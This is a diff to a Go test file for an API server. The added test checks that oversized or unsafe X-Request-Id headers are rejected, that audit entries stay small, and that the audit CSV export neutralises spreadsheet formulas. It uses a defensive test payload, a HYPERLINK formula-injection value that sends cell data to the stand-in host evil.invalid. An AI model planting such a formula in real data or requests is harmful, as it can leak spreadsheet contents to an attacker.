@@ -4,10 +4,14 @@ package api_test
 // error lists, client request ids, spreadsheet formulas in CSV exports.
 
 import (
+	"context"
 	"fmt"
+	"net/http"
 	"strings"
 	"sync"
 	"testing"
+
+	"github.com/kraeftplan/kpv/store"
 )
 
 // Twenty submissions of the same figure at once are all accepted, as
@@ -45,9 +49,6 @@ func TestConcurrentSubmissionsOfOneFigureBecomeRevisions(t *testing.T) {
 	}
 }
 
-// strings is used by the tests below.
-var _ = strings.Repeat
-
 // One 4 MiB batch of duplicate rows answers, audits and logs a bounded
 // list (the first 100 problems, the total and the kinds), and a long input
 // value is repeated only as an excerpt; the public run log stays small.
@@ -81,5 +82,51 @@ func TestErrorListsAreBounded(t *testing.T) {
 	rp = l.do(t, "POST", gpPlan, "regioner", "text/csv", "period;geography;value\n2025;DK-82;"+long+"\n")
 	if rp.status != 422 || len(rp.body) > 4<<10 || strings.Contains(string(rp.body), strings.Repeat("x", 300)) {
 		t.Errorf("a 100 kB bad value: answer %d of %d bytes, want 422 quoting at most a short excerpt", rp.status, len(rp.body))
+	}
+}
+
+// A client's X-Request-Id is kept only when short and of a safe alphabet;
+// an anonymous refused request writes a small audit entry whatever it
+// sends; the admin's audit CSV opens as data in a spreadsheet.
+func TestRequestIDIsCheckedAndAuditCSVIsSafe(t *testing.T) {
+	l := newLiveServer(t)
+	send := func(id string) string {
+		req, _ := http.NewRequest("POST", l.srv.URL+gpPlan, strings.NewReader("period;geography;value\n2025;DK-82;50\n"))
+		req.Header.Set("Content-Type", "text/csv")
+		req.Header.Set("X-Request-Id", id)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != 401 {
+			t.Fatalf("anonymous write answered %d, want 401", resp.StatusCode)
+		}
+		return resp.Header.Get("X-Request-Id")
+	}
+	huge := "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Klik\")" + strings.Repeat("A", 500_000)
+	if got := send(huge); got == "" || len(got) > 64 || strings.Contains(got, "HYPERLINK") {
+		t.Errorf("a 500 kB formula id answered with id %.80q, want one kpv made", got)
+	}
+	if got := send("abc-123.def_4:5"); got != "abc-123.def_4:5" {
+		t.Errorf("a safe client id came back as %q", got)
+	}
+	send("-x1")
+	var ids []string
+	rows, err := l.st.AuditLog(context.Background(), store.AuditFilter{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range rows {
+		ids = append(ids, e.RequestID)
+	}
+	biggest := l.count(t, `SELECT max(octet_length(a::text)) FROM audit_log a`)
+	t.Logf("audit entries of three anonymous refusals: largest %d bytes; request ids %q", biggest, ids)
+	if biggest > 2048 {
+		t.Errorf("an anonymous refused request wrote an audit entry of %d bytes, want at most 2 KiB", biggest)
+	}
+	csv := l.do(t, "GET", "/api/v1/audit?format=csv", "admin", "", "")
+	if csv.status != 200 || strings.Contains(string(csv.body), "HYPERLINK") || !strings.Contains(string(csv.body), ",'-x1,") {
+		t.Errorf("audit CSV %d:\n%s\nwant the formula gone and the id -x1 written as '-x1", csv.status, csv.body)
 	}
 }
